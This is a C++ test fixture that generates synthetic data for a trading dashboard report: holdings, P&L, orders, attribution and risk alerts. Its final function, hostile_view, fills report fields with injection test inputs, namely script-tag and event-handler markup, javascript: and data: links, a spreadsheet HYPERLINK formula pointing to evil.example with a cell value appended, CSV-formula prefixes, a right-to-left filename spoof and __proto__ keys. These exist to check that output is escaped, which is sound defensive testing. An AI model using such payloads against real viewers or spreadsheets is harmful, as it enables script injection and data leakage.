#include "synthetic.h"

#include <algorithm>
#include <array>
#include <cmath>
#include <numeric>

#include "synthetic_series.h"

namespace signalbus::report::testing {
namespace {

struct Listed {
  const char* symbol;
  const char* sector;
};

constexpr std::array kListed = {Listed{"AAPL", "Technology"},
                                Listed{"MSFT", "Technology"},
                                Listed{"NVDA", "Technology"},
                                Listed{"AVGO", "Technology"},
                                Listed{"AMD", "Technology"},
                                Listed{"ORCL", "Technology"},
                                Listed{"GOOGL", "Communication"},
                                Listed{"META", "Communication"},
                                Listed{"NFLX", "Communication"},
                                Listed{"DIS", "Communication"},
                                Listed{"AMZN", "Consumer cyclical"},
                                Listed{"TSLA", "Consumer cyclical"},
                                Listed{"HD", "Consumer cyclical"},
                                Listed{"MCD", "Consumer cyclical"},
                                Listed{"BBY", "Consumer cyclical"},
                                Listed{"PG", "Consumer staples"},
                                Listed{"KO", "Consumer staples"},
                                Listed{"PEP", "Consumer staples"},
                                Listed{"WMT", "Consumer staples"},
                                Listed{"COST", "Consumer staples"},
                                Listed{"LLY", "Health care"},
                                Listed{"JNJ", "Health care"},
                                Listed{"UNH", "Health care"},
                                Listed{"MRK", "Health care"},
                                Listed{"PFE", "Health care"},
                                Listed{"JPM", "Financials"},
                                Listed{"BAC", "Financials"},
                                Listed{"BRK.B", "Financials"},
                                Listed{"V", "Financials"},
                                Listed{"GS", "Financials"},
                                Listed{"XOM", "Energy"},
                                Listed{"CVX", "Energy"},
                                Listed{"RRC", "Energy"},
                                Listed{"GE", "Industrials"},
                                Listed{"CAT", "Industrials"},
                                Listed{"HON", "Industrials"},
                                Listed{"UPS", "Industrials"},
                                Listed{"LIN", "Materials"},
                                Listed{"NEE", "Utilities"},
                                Listed{"PLD", "Real estate"}};

/// Rounded to the cent.
Money usd(double dollars) {
  return Money::from_raw(static_cast<std::int64_t>(std::llround(dollars * 100)) * 10'000);
}

std::string fixed(double value, int decimals) {
  const double scale = std::pow(10, decimals);
  return Quantity::from_raw(static_cast<std::int64_t>(std::llround(value * scale)) *
                            static_cast<std::int64_t>(std::llround(1e9 / scale)))
      .text();
}

/// Shares of `total` that add up to it, to the cent: noise around the weights.
std::vector<AmountView> split(const std::vector<std::string>& labels, Money total, double ret,
                              double noise, Draws& draws) {
  std::vector<AmountView> out;
  std::vector<double> shares;
  for (std::size_t i = 0; i < labels.size(); ++i) {
    const double size = labels[i].starts_with('_') ? 0.02 : 1;  // "_fees": of no position
    shares.push_back(size * (1 + noise * draws.normal()));
  }
  const double sum = std::accumulate(shares.begin(), shares.end(), 0.0);
  Money left = total;
  for (std::size_t i = 0; i < labels.size(); ++i) {
    const double share = shares[i] / sum;
    const bool last = i + 1 == labels.size();
    out.push_back({labels[i], last ? left : usd(total.to_double() * share), ret * share});
    left -= out.back().usd;
  }
  std::ranges::sort(out, [](const auto& a, const auto& b) { return a.usd > b.usd; });
  return out;
}

std::string symbol_at(std::size_t i) {
  return i < kListed.size() ? kListed[i].symbol : "SYM" + std::to_string(i);
}

void fill_header(HeaderView& header, const SeriesView& series, const BookSize& size) {
  header.title = "Daily report";
  header.account = "Growth & Quality";
  header.mode = "paper";
  header.strategies = {"momentum", "inverse_volatility", "equal_weight"};
  header.first = series.dates.front();
  header.last = series.dates.back();
  header.sessions = size.sessions;
  header.time_zone = "America/New_York";
  header.benchmark = size.with_benchmark ? "SPY, total return" : "";
  header.benchmark_reason =
      size.with_benchmark ? "" : "data/market/benchmark.csv is not there; see docs/analytics.md";
  header.data_hash = "9f2c41d7a8e05b36c1f4e97d2086ab53b7c9d1e4f60a8237c5e8b9142d7f6a03";
  header.build = "signalbus 0.1.0";
  header.made_at = "2025-08-29T20:35:04Z";
  header.reconciled = true;
  header.reconciliation = "no open difference, " + std::to_string(size.sessions) + " days";
  if (size.sessions < 252) header.notes = {"Less than a year of data: yearly numbers are grey."};
}

void fill_names(DashboardView& view, std::size_t count, Draws& draws) {
  const double equity = view.series.equity.back();
  for (std::size_t i = 0; i < count; ++i) {
    const double weight = i % 9 == 8 ? 0
                                     : 0.965 / static_cast<double>(count) *
                                           (1 + 0.45 * draws.normal() * draws.uniform());
    const double price = std::round(100 * std::exp(4 + 0.8 * draws.normal())) / 100;
    const double value = weight * equity;
    NameRow row;
    row.symbol = symbol_at(i);
    row.sector = kListed[i % kListed.size()].sector;
    row.weight = weight;
    row.quantity = fixed(value / price, 4);
    row.price = fixed(price, 2);
    row.value = usd(value);
    row.day_pnl = usd(value * 0.012 * draws.normal());
    row.realised = usd(equity * 0.006 * draws.normal());
    row.unrealised = usd(value * (0.12 + 0.2 * draws.normal()));
    row.pnl = row.realised + row.unrealised;
    row.contribution = row.pnl.to_double() / equity;
    view.names.push_back(row);
  }
}

void fill_today(DashboardView& view) {
  TodayView& today = view.today;
  const SeriesView& series = view.series;
  const std::size_t last = series.equity.size() - 1;
  today.equity_after = usd(series.equity[last]);
  today.equity_before = usd(last > 0 ? series.equity[last - 1] : 1'000'000);
  today.profit = today.equity_after - today.equity_before;
  today.day_return = series.returns[last];
  if (!series.benchmark_returns.empty()) today.benchmark_return = series.benchmark_returns[last];
  const double before = today.equity_before.to_double();
  Money left = today.profit;
  const auto step = [&](const char* label, Money amount) {
    left -= amount;
    today.waterfall.push_back({label, amount, amount.to_double() / before});
  };
  step("Overnight", Money::zero());
  step("Trading", usd(-0.00021 * before));
  step("Dividends", usd(0.00034 * before));
  step("Interest", usd(0.000031 * before));
  step("Fees", usd(-0.0000183 * before));
  step("Other", Money::zero());
  today.waterfall[0] = {"Overnight", left, left.to_double() / before};
  std::vector<AmountView> parts;
  for (const NameRow& row : view.names) {
    parts.push_back({row.symbol, row.day_pnl, row.day_pnl.to_double() / before});
  }
  std::ranges::sort(parts, [](const auto& a, const auto& b) { return a.usd > b.usd; });
  const auto shown = static_cast<std::ptrdiff_t>(std::min<std::size_t>(6, parts.size() / 2));
  today.best.assign(parts.begin(), parts.begin() + shown);
  today.worst.assign(parts.rbegin(), parts.rbegin() + shown);
}

void fill_exposure(DashboardView& view) {
  ExposureView& out = view.exposure;
  std::vector<double> weights;
  for (const NameRow& row : view.names) {
    out.gross += row.weight;
    if (row.weight > 0) ++out.longs;
    weights.push_back(row.weight);
    const auto group = std::ranges::find(out.sectors, row.sector, &ExposureView::Group::label);
    if (group == out.sectors.end()) {
      out.sectors.push_back({row.sector, row.weight, row.weight});
    } else {
      group->gross += row.weight;
      group->net += row.weight;
    }
  }
  std::ranges::sort(out.sectors, [](const auto& a, const auto& b) { return a.gross > b.gross; });
  std::ranges::sort(weights, std::greater{});
  out.net = out.long_share = out.gross;
  out.cash_share = 1 - out.gross;
  out.cash = usd(out.cash_share * view.series.equity.back());
  double squares = 0;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    const double share = weights[i] / out.gross;
    squares += share * share;
    if (i < 1) out.top_1 += share;
    if (i < 5) out.top_5 += share;
    if (i < 10) out.top_10 += share;
  }
  out.effective_n = 1 / squares;
  LiquidityView& liquidity = view.liquidity;
  if (view.series.dates.size() < 100) {
    liquidity.reason = liquidity.capacity_reason =
        "AAPL has the volume of 0 sessions shortly before 2025-08-29, needs 5; add them with "
        "`signalbus prices`";
    return;
  }
  liquidity = {.days = 0.37,
               .slowest = "RRC",
               .reason = "",
               .capacity_usd = 84'320'117.25,
               .capacity_scale = 31.6,
               .capacity_reason = "",
               .largest_share = 0.0213};
}

void fill_trading(DashboardView& view, Draws& draws) {
  constexpr std::array kCauses = {"", "rounding", "partial_fill", "price_move", "skipped"};
  for (std::size_t i = 0; i < view.names.size(); ++i) {
    const NameRow& row = view.names[i];
    const double off = 0.0009 * draws.normal();
    view.drift.push_back({row.symbol, std::max(0.0, row.weight - off), row.weight,
                          row.weight - std::max(0.0, row.weight - off),
                          kCauses[std::abs(off) < 0.0004 ? 0 : 1 + draws.below(4)]});
    CostRow cost{.label = row.symbol, .orders = 40 + draws.below(400)};
    cost.fill_rate = 1 - 0.01 * draws.uniform();
    cost.traded = usd(view.series.equity.back() * (0.5 + 2 * draws.uniform()));
    cost.slippage_bps = 1.4 + 1.1 * draws.normal();
    cost.shortfall_bps = cost.slippage_bps + 0.8 + 0.4 * draws.normal();
    cost.shortfall = usd(cost.traded.to_double() * cost.shortfall_bps * 1e-4);
    cost.full_rate = cost.fill_rate;
    cost.fill_seconds = 0.4 + 0.2 * static_cast<double>(i % 5);
    cost.delay = usd(cost.shortfall.to_double() / 4);
    view.costs_by_symbol.push_back(cost);
    if (i % 2 == 1) continue;
    const bool refused = i == 6, partial = i == 10, buy = off < 0;
    const double shares = std::round(10000 * (1 + 30 * draws.uniform())) / 10000;
    OrderRow order{.id = "sb_20250829_" + row.symbol + (buy ? "_BUY_" : "_SELL_") + "k3v9q2m7xa",
                   .symbol = row.symbol,
                   .side = buy ? "BUY" : "SELL",
                   .quantity = fixed(shares, 4),
                   .filled = refused ? "0" : fixed(partial ? std::round(shares / 3) : shares, 4),
                   .status = refused   ? "REJECTED"
                             : partial ? "PARTIAL"
                                       : "FILLED",
                   .avg_price = refused ? "" : row.price,
                   .slippage_bps = refused ? std::nan("") : 1.5 + 3 * draws.normal(),
                   .reason = refused ? "insufficient buying power (403)" : ""};
    if (!refused) {
      order.shortfall = usd(shares * 100 * order.slippage_bps * 1e-4);
      order.delay = usd(order.shortfall.to_double() / 4);
      if (!partial) order.fill_seconds = 0.31 + 11.7 * static_cast<double>(i);
    }
    view.orders.push_back(order);
  }
  for (const std::string& strategy : view.header.strategies) {
    view.costs_by_strategy.push_back({.label = strategy,
                                      .orders = 9000 + draws.below(3000),
                                      .fill_rate = 0.9931 + 0.005 * draws.uniform(),
                                      .traded = usd(2.4e7 * (1 + draws.uniform())),
                                      .shortfall = usd(5200 * (1 + draws.uniform())),
                                      .shortfall_bps = 2.1 + draws.uniform(),
                                      .slippage_bps = 1.2 + draws.uniform(),
                                      .full_rate = 0.9804,
                                      .fill_seconds = 0.62,
                                      .delay = usd(1400)});
  }
}

void fill_attribution(DashboardView& view, Draws& draws) {
  const double start = 1'000'000;
  const Money profit = usd(view.series.equity.back() - start);
  const double ret = view.series.growth.back() - 1;
  std::vector<std::string> symbols, sectors;
  for (const NameRow& row : view.names) symbols.push_back(row.symbol);
  for (const auto& group : view.exposure.sectors) sectors.push_back(group.label);
  for (auto* labels : {&symbols, &sectors}) {
    labels->insert(labels->end(), {"_cash", "_fees"});
  }
  const auto add = [&](const char* by, const std::vector<std::string>& labels, double noise) {
    view.attribution.push_back({by, split(labels, profit, ret, noise, draws), profit, ret});
  };
  std::vector<std::string> strategies = view.header.strategies;
  strategies.emplace_back("_account");
  add("strategy", strategies, 0.4);
  add("sector", sectors, 0.7);
  add("symbol", symbols, 1.1);
  add("side", {"long", "round trip", "_cash", "_fees"}, 0.5);
  FactorsView& factors = view.factors;
  if (view.header.benchmark.empty()) {
    factors.reason = "no factors are known; set analytics.factors to a file of their daily returns";
  } else {
    factors = {.note = "Since 2015-11-20, linked (Cari\u00f1o).",
               .reason = "",
               .rows = {{"market", 0.94, 0.97, 0.61 * ret, 0.02 * ret, 0.63 * ret},
                        {"size", -0.12, -0.2, -0.03 * ret, 0.01 * ret, -0.02 * ret},
                        {"momentum", 0.31, 0.18, 0.12 * ret, -0.01 * ret, 0.11 * ret}},
               .specific = 0.28 * ret,
               .total = ret};
  }
  BrinsonView& brinson = view.brinson;
  if (view.header.benchmark.empty()) {
    brinson.reason =
        "nobody told what the benchmark is made of; set analytics.benchmark_weights to a file of "
        "date,symbol,weight";
    return;
  }
  brinson.note = "Sector weights and returns of the benchmark: XLx proxies as of 2025-06-30.";
  brinson.active = ret - (view.series.benchmark_growth.back() - 1);
  double left = brinson.active;
  for (std::size_t i = 0; i < sectors.size(); ++i) {
    const bool is_held = !sectors[i].starts_with('_');
    const double held = is_held ? view.exposure.sectors[i].net : 0;
    BrinsonView::Row row{sectors[i],
                         held,
                         is_held ? held * 0.9 : 0,
                         0.02 * draws.normal(),
                         0.05 * draws.normal(),
                         0.01 * draws.normal()};
    left -= row.allocation + row.interaction;
    if (i + 1 == sectors.size()) row.selection = left;
    left -= row.selection;
    brinson.rows.push_back(row);
  }
}

void fill_watch(DashboardView& view) {
  const std::vector<TradeDate>& dates = view.series.dates;
  const std::size_t shown = std::min<std::size_t>(60, dates.size());
  for (std::size_t i = 0; i < shown; ++i) {
    const TradeDate date = dates[dates.size() - 1 - i];
    const bool bad = i == 17;
    const std::string run = date.compact() + "-1";
    view.reconciliation.push_back({date, bad ? "mismatch" : "ok", bad ? 2u : 0u,
                                   bad ? usd(-3.41) : Money::zero(), "../runs/" + run + "/"});
    view.runs.push_back({run, date, "paper", bad ? "differences" : "ok", bad ? 10 : 0,
                         "../runs/" + run + "/manifest.json"});
  }
  if (dates.size() < 100) return;
  view.alerts = {{"name_weight", "symbol:NVDA", AlertLevel::kWarn, dates[dates.size() - 3],
                  "weight is 10.4 % of equity, warn is 10 %"},
                 {"slippage", "portfolio", AlertLevel::kOk, dates[dates.size() - 9],
                  "slippage is 3.1 bps again, warn is 15 bps", true}};
  const auto risk = [&](const char* scope, const char* metric, double value, const char* unit,
                        double warn, double critical, AlertLevel level) {
    view.risk.push_back({{scope, metric, value, unit, "day", dates.size()}, warn, critical, level});
  };
  risk("portfolio", "drawdown", view.series.drawdown.back(), "fraction", -0.1, -0.15,
       AlertLevel::kOk);
  risk("portfolio", "gross", view.exposure.gross, "fraction", 1.2, 1.5, AlertLevel::kOk);
  risk("portfolio", "effective_n", view.exposure.effective_n, "count", 10, 8, AlertLevel::kOk);
  risk("portfolio", "slippage", 3.1, "bps", 15, 30, AlertLevel::kOk);
  risk("symbol:NVDA", "weight", 0.104, "fraction", 0.1, 0.2, AlertLevel::kWarn);
  view.risk.push_back({{"portfolio", "days_to_liquidate", std::nullopt, "days", "day", 0,
                        "no average volume in data/market"},
                       0.33,
                       1,
                       AlertLevel::kUnknown});
}

}  // namespace

DashboardView synthetic_view(const BookSize& size) {
  Draws draws(20'250'829);
  DashboardView view;
  fill_series(view, size.sessions, size.with_benchmark, 1'000'000, draws);
  fill_header(view.header, view.series, size);
  fill_names(view, size.names, draws);
  fill_today(view);
  fill_exposure(view);
  fill_trading(view, draws);
  fill_attribution(view, draws);
  fill_watch(view);
  view.files = {{"Profit of each name and day", "pnl_daily_20250829.csv"},
                {"Risk snapshot", "risk_snapshot_20250829.csv"}};
  return view;
}

DashboardView weekly_view() {
  DashboardView view = synthetic_view({.sessions = 504, .with_benchmark = false});
  view.header.title = "Weekly report";
  view.today.period = "Last week";
  view.today.since = view.series.dates[view.series.dates.size() - 5];
  view.drawdowns[0].peak = "start";
  return view;
}

DashboardView empty_view() {
  DashboardView view;
  view.header.title = "Daily report";
  view.header.account = "New account";
  view.header.mode = "dry";
  view.header.build = "signalbus 0.1.0";
  view.header.benchmark_reason = "analytics.benchmark is not set";
  view.header.reconciliation = "no day yet";
  view.liquidity.reason = view.liquidity.capacity_reason = "nothing is held";
  view.brinson.reason = view.factors.reason = "no day yet";
  return view;
}

DashboardView hostile_view() {
  DashboardView view = synthetic_view({.sessions = 300, .names = 12, .with_benchmark = true});
  const std::string markup =
      "</script><img src=x onerror=\"window.hit=1\"><script>window.hit=1</script>";
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  const std::string endless(300, 'W');
  view.header.account = markup;
  view.header.title = endless;
  view.header.strategies = {formula, "<b>bold</b>",
                            "\xe2\x80\xae"
                            "gpj.exe"};
  view.header.notes = {"<svg onload=window.hit=1>", endless};
  view.names[0].symbol = "<script>window.hit=1</script>";
  view.names[1].symbol = formula;
  view.names[2].symbol = "@SUM(1)";
  view.names[3].symbol = "+1-1";
  view.names[4].symbol = "-2+3";
  view.names[5].symbol = "\t=1";
  view.names[6].sector = endless;
  view.orders[0].symbol = markup;
  view.orders[0].reason = markup + endless;
  view.orders[1].id = formula;
  view.alerts[0].sentence = markup;
  view.alerts[0].scope = formula;
  view.runs[0].link = "javascript:window.hit=1";
  view.runs[1].link = "//evil.example/x";
  view.runs[2].link = "data:text/html,<script>window.hit=1</script>";
  view.runs[3].link = " javascript:window.hit=1";
  view.runs[4].link = "java\nscript:window.hit=1";
  view.files[0].link = "https://evil.example/";
  view.metrics[0].formula = markup;
  view.metrics[0].title = markup;
  view.attribution[0].rows[0].label = "__proto__";
  view.attribution[0].by = "constructor";
  view.brinson.rows[0].sector = markup;
  view.brinson.note = markup;
  view.factors.rows[0].factor = formula;
  view.factors.rows[1].factor = endless;
  view.liquidity.slowest = markup;
  return view;
}

}  // namespace signalbus::report::testing
